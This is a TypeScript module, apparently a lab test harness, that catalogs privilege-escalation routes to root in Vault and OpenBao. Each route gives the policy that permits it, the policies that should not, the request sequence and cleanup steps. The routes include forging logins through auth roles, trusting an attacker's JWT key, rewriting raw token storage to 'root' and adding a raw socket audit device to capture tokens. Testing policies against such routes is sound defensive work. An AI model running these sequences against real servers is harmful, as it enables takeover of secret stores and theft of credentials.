/** Ways to become root through auth methods and through the server's own API. */
import { again, type Attack, limited, policies, rule, send, signInAt, after } from './escalationSteps.ts'
import { ownKey, ownKeyPem, textAt, tokenIn } from './escalationWorld.ts'

export const loginRoutes: readonly Attack[] = [
  {
    way: 'login',
    policy: rule('auth/userpass/users/new', 'create'),
    misses: [
      rule('auth/userpass/users/new', 'read', 'delete', 'list'),
      rule('auth/userpass/users/new/password', 'update'),
      limited('auth/userpass/users/new', 'create', 'allowed_parameters = { "password" = [] }'),
    ],
    run: after(
      send('POST', 'auth/userpass/users/new', { password: 'p', policies }),
      signInAt('auth/userpass/login/new', { password: 'p' }),
    ),
    undo: (world) => world.root('DELETE', 'auth/userpass/users/new'),
  },
  {
    way: 'login',
    policy: rule('auth/userpass/users/+/policies', 'update'),
    misses: [rule('auth/userpass/users/another/policies', 'update')],
    run: after(
      send('POST', ({ user }) => `auth/userpass/users/${user}/policies`, { policies }),
      again,
    ),
  },
  {
    way: 'password',
    policy: rule('auth/userpass/users/+/password', 'update'),
    misses: [
      rule('auth/userpass/users/OWN/password', 'update'),
      rule('auth/userpass/users/{{identity.entity.name}}/password', 'update'),
    ],
    run: async (attacker, world) => {
      await world.root('POST', 'auth/userpass/users/boss', { password: 'secret', policies })
      await attacker.ask('POST', 'auth/userpass/users/boss/password', { password: 'mine' })
      return signInAt('auth/userpass/login/boss', { password: 'mine' })(attacker, world)
    },
  },
  ...(['create', 'update'] as const).map((operation): Attack => ({
    way: 'login',
    policy: rule('auth/approle/role/app', operation),
    misses: [
      rule('auth/approle/role/app', 'read', 'list', 'delete'),
      rule('auth/approle/role/app/secret-id', 'update'),
    ],
    run: async (attacker, world) => {
      if (operation === 'update')
        await world.root('POST', 'auth/approle/role/app', { token_policies: [attacker.policy], role_id: 'known' })
      const body = {
        token_policies: policies,
        role_id: 'known',
        bind_secret_id: false,
        secret_id_bound_cidrs: ['0.0.0.0/0'],
      }
      await attacker.ask('POST', 'auth/approle/role/app', body)
      return signInAt('auth/approle/login', { role_id: 'known' })(attacker, world)
    },
    undo: (world) => world.root('DELETE', 'auth/approle/role/app'),
  })),
  {
    way: 'login',
    policy: rule('auth/approle/role/+/policies', 'update'),
    misses: [rule('auth/approle/role/another/policies', 'update')],
    run: async (attacker, world) => {
      const role = {
        role_id: 'mine',
        bind_secret_id: false,
        secret_id_bound_cidrs: ['0.0.0.0/0'],
        token_policies: [attacker.policy],
      }
      await world.root('POST', 'auth/approle/role/mine', role)
      await attacker.ask('POST', 'auth/approle/role/mine/policies', { token_policies: policies })
      return signInAt('auth/approle/login', { role_id: 'mine' })(attacker, world)
    },
    undo: (world) => world.root('DELETE', 'auth/approle/role/mine'),
  },
  {
    way: 'login',
    policy: rule('auth/kubernetes/role/*', 'create'),
    misses: [rule('auth/kubernetes/role/*', 'read', 'list', 'delete')],
    run: async (attacker, world) => {
      await attacker.ask('POST', 'auth/kubernetes/role/mine', {
        bound_service_account_names: ['web'],
        bound_service_account_namespaces: ['apps'],
        audience: 'vault',
        token_policies: policies,
      })
      return signInAt('auth/kubernetes/login', { role: 'mine', jwt: world.podToken() })(attacker, world)
    },
    undo: (world) => world.root('DELETE', 'auth/kubernetes/role/mine'),
  },
  {
    way: 'trust',
    policy: rule('auth/kubernetes/config', 'update'),
    misses: [rule('auth/kubernetes/config', 'read')],
    run: async (attacker, world) => {
      // The real cluster does not respond; only the attacker's own cluster accepts its token.
      await world.root('POST', 'auth/kubernetes/config', {
        ...world.clusterConfig,
        kubernetes_host: 'http://127.0.0.1:9',
      })
      const role = {
        bound_service_account_names: ['web'],
        bound_service_account_namespaces: ['apps'],
        audience: 'vault',
        token_policies: policies,
      }
      await world.root('POST', 'auth/kubernetes/role/boss', role)
      await attacker.ask('POST', 'auth/kubernetes/config', world.clusterConfig)
      return signInAt('auth/kubernetes/login', { role: 'boss', jwt: world.podToken() })(attacker, world)
    },
    undo: async (world) => {
      await world.root('DELETE', 'auth/kubernetes/role/boss')
      await world.trustCluster()
    },
  },
  {
    way: 'login',
    policy: rule('auth/jwt/role/mine', 'create'),
    misses: [rule('auth/jwt/role/mine', 'read')],
    run: after(
      send('POST', 'auth/jwt/role/mine', {
        role_type: 'jwt',
        user_claim: 'sub',
        bound_subject: 'eve',
        token_policies: policies,
      }),
      (attacker, world) => signInAt('auth/jwt/login', { role: 'mine', jwt: world.staffToken() })(attacker, world),
    ),
    undo: (world) => world.root('DELETE', 'auth/jwt/role/mine'),
  },
  {
    way: 'login',
    policy: rule('auth/jwt/cel/role/mine', 'update'),
    only: 'openbao',
    misses: [rule('auth/jwt/cel/role/mine', 'create', 'read')],
    run: after(
      send('POST', 'auth/jwt/cel/role/mine', {
        cel_program: {
          expression: 'pb.Auth{policies: ["admin"], display_name: "eve", alias: logical.Alias{name: "eve"}}',
        },
      }),
      (attacker, world) => signInAt('auth/jwt/cel/login', { role: 'mine', jwt: world.staffToken() })(attacker, world),
    ),
    undo: (world) => world.root('DELETE', 'auth/jwt/cel/role/mine'),
  },
  {
    way: 'trust',
    policy: rule('auth/jwt/config', 'update'),
    misses: [rule('auth/jwt/config', 'read')],
    run: async (attacker, world) => {
      const role = { role_type: 'jwt', user_claim: 'sub', bound_subject: 'eve', token_policies: policies }
      await world.root('POST', 'auth/jwt/role/boss', role)
      await attacker.ask('POST', 'auth/jwt/config', { jwt_validation_pubkeys: [ownKeyPem] })
      return signInAt('auth/jwt/login', { role: 'boss', jwt: world.staffToken(ownKey.privateKey) })(attacker, world)
    },
    undo: async (world) => {
      await world.root('DELETE', 'auth/jwt/role/boss')
      await world.trustStaff()
    },
  },
  {
    way: 'login',
    policy: rule('auth/cert/certs/*', 'update'),
    misses: [rule('auth/cert/certs/*', 'create', 'read', 'list')],
    run: async (attacker, world) => {
      await attacker.ask('POST', 'auth/cert/certs/mine', {
        certificate: world.client.certPem,
        token_policies: policies,
      })
      return tokenIn(await world.request(null, 'POST', 'auth/cert/login', { name: 'mine' }, world.client))
    },
    undo: (world) => world.root('DELETE', 'auth/cert/certs/mine'),
  },
]

export const serverRoutes: readonly Attack[] = [
  {
    way: 'new-method',
    policy: rule('sys/auth/mine', 'update', 'sudo') + rule('auth/mine/*', 'create'),
    misses: [
      rule('sys/auth/mine', 'create', 'update', 'sudo'),
      rule('sys/auth/mine', 'create', 'update') + rule('auth/mine/*', 'create', 'update'),
      rule('sys/auth/other', 'create', 'update', 'sudo') + rule('auth/mine/*', 'create', 'update'),
    ],
    run: async (attacker, world) => {
      await attacker.ask('POST', 'sys/auth/mine', { type: 'userpass' })
      await attacker.ask('POST', 'auth/mine/users/x', { password: 'p', policies })
      return signInAt('auth/mine/login/x', { password: 'p' })(attacker, world)
    },
    undo: (world) => world.root('DELETE', 'sys/auth/mine'),
  },
  {
    way: 'storage',
    policy: rule('sys/raw/*', 'read', 'list', 'update', 'sudo'),
    misses: [rule('sys/raw/*', 'read', 'list', 'sudo'), rule('sys/raw/*', 'read', 'list', 'update')],
    run: async (attacker) => {
      const list = await attacker.ask('GET', 'sys/raw/sys/token/id/?list=true')
      const keys = (list.body['data'] as { keys?: string[] } | undefined)?.keys ?? []
      for (const key of keys) {
        const value = textAt(await attacker.ask('GET', `sys/raw/sys/token/id/${key}`), 'data', 'value')
        if (value?.includes(`"${attacker.policy}"`) !== true) continue
        const entry = value.replaceAll(`["${attacker.policy}"]`, '["root"]')
        await attacker.ask('PUT', `sys/raw/sys/token/id/${key}`, { value: entry })
      }
      return attacker.token
    },
  },
  {
    way: 'audit',
    policy: rule('sys/audit/+', 'update', 'sudo'),
    only: 'vault',
    misses: [rule('sys/audit/+', 'update'), rule('sys/audit/+', 'read', 'delete', 'sudo')],
    run: (attacker, world) =>
      world.overheard((address) =>
        attacker.ask('PUT', 'sys/audit/mine', {
          type: 'socket',
          options: { address, socket_type: 'tcp', log_raw: 'true' },
        }),
      ),
    undo: (world) => world.root('DELETE', 'sys/audit/mine'),
  },
]
